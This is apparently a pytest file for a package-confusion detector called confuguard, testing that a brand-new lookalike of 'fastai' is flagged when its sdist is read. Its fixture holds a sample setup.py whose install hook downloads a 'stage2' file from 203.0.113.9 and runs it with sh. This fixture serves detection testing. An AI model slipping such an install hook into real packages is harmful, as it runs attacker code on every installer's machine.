"""A nightly sweep that reads the sdist (opt-in): a brand-new lookalike whose setup.py downloads and runs code is
alerted on that rule, although its summary and repository are its own; without the opt-in it is cleared."""

from __future__ import annotations

import io
import tarfile
from datetime import UTC, datetime, timedelta

from fakeregistry import FakeRegistry

from confuguard.classifier import Judge
from confuguard.config import Config
from confuguard.engine import Engine
from confuguard.store import Store
from confuguard.sweep import Sweep
from confuguard.types import Ecosystem

START = {Ecosystem.PYPI: "31000006"}
DROPPER = b'''import subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install


class Run(install):
    def run(self):
        urllib.request.urlretrieve("http://203.0.113.9/stage2", "/tmp/s")
        subprocess.call(["sh", "/tmp/s"])
        install.run(self)


setup(name="fastbi", version="0.3.2", cmdclass={"install": Run})
'''


def _sdist() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("fastbi-0.3.2/setup.py")
        info.size = len(DROPPER)
        tar.addfile(info, io.BytesIO(DROPPER))
    return buf.getvalue()


def _sweep(tmp_path, monkeypatch, *, fetch: bool) -> tuple[dict, list[str], dict]:
    now = datetime.now(UTC)
    with FakeRegistry() as fake:
        d = fake.data
        d.add_record("pypi", "fastai", {"summary": "fastai simplifies training fast and accurate neural nets using modern "
                                                   "best practices", "created": "2019-01-01T00:00:00Z",
                                        "maintainers": ["jph00"]}, version="2.8.0")
        d.add_record("pypi", "fastbi", {"summary": "Build business intelligence dashboards from SQL queries in minutes",
                                        "created": (now - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                                        "maintainers": ["newcomer2"], "sdist": _sdist()}, version="0.3.2")
        d.pypi["fastbi"]["info"]["project_urls"] = {"Source": "https://github.com/newcomer2/fastbi"}
        d.publish("pypi", "fastbi")
        for k, v in fake.env().items():
            monkeypatch.setenv(k, v)
        config = Config.load().with_fetch(sdist=fetch, accounts=fetch)
        with Store.open(tmp_path / f"s{fetch}.db") as store:
            engine = Engine(encoder=None, judge=Judge.default(store=store))
            summary = Sweep(store, engine, config=config).feeds([Ecosystem.PYPI], start=START)
            assert not summary.failed, summary.to_json()
            alerts = {(a.suspect, a.target): a for a in store.alert_rows()}
            record = store.get_metadata(engine.check_name("fastbi", Ecosystem.PYPI).package)
        return alerts, list(fake.requests), {"record": record}


def test_the_install_hook_rule_alerts_a_dropper_that_would_otherwise_be_cleared(tmp_path, monkeypatch) -> None:
    cleared, requests, _ = _sweep(tmp_path, monkeypatch, fetch=False)
    assert ("fastbi", "fastai") not in cleared
    assert not any("/pypi-files/" in r for r in requests)  # not opted in: the sdist is never downloaded
    alerted, requests, seen = _sweep(tmp_path, monkeypatch, fetch=True)
    assert sum("/pypi-files/fastbi-0.3.2.tar.gz" in r for r in requests) == 1
    record = seen["record"]
    assert record.install_behaviour == ("cmdclass", "runs-commands", "downloads") and record.account_packages == 1
    alert = alerted[("fastbi", "fastai")]
    assert "its setup.py downloads and runs code at install, in a brand-new lookalike" in " | ".join(alert.reasons)


def test_check_live_reads_the_sdist_only_with_the_flag(tmp_path, monkeypatch, capsys) -> None:
    import json

    from confuguard.cli import main

    now = datetime.now(UTC)
    with FakeRegistry() as fake:
        fake.data.add_record("pypi", "fastbi", {"summary": "Build business intelligence dashboards from SQL queries",
                                                "created": (now - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                                                "maintainers": ["newcomer2"], "sdist": _sdist()}, version="0.3.2")
        for k, v in fake.env().items():
            monkeypatch.setenv(k, v)
        monkeypatch.setenv("CONFUGUARD_CONFIG", str(tmp_path / "none.toml"))
        (tmp_path / "none.toml").write_text("")
        args = ["check", "--live", "--no-embeddings", "-r", "pypi", "-f", "json", "--db", str(tmp_path / "s.db"), "fastbi"]
        main(args)
        plain = json.loads(capsys.readouterr().out)
        assert not any("/pypi-files/" in r for r in fake.requests)
        assert main([*args[:2], "--fetch-sdist", *args[2:]]) == 1
        hooked = json.loads(capsys.readouterr().out)
    rule = "its setup.py downloads and runs code at install, in a brand-new lookalike"
    assert not any(rule in c["reasons"] for c in plain["candidates"])
    top = next(c for c in hooked["candidates"] if c["target"] == "fastai")
    assert hooked["verdict"] == "suspicious" and top["reasons"][0] == rule
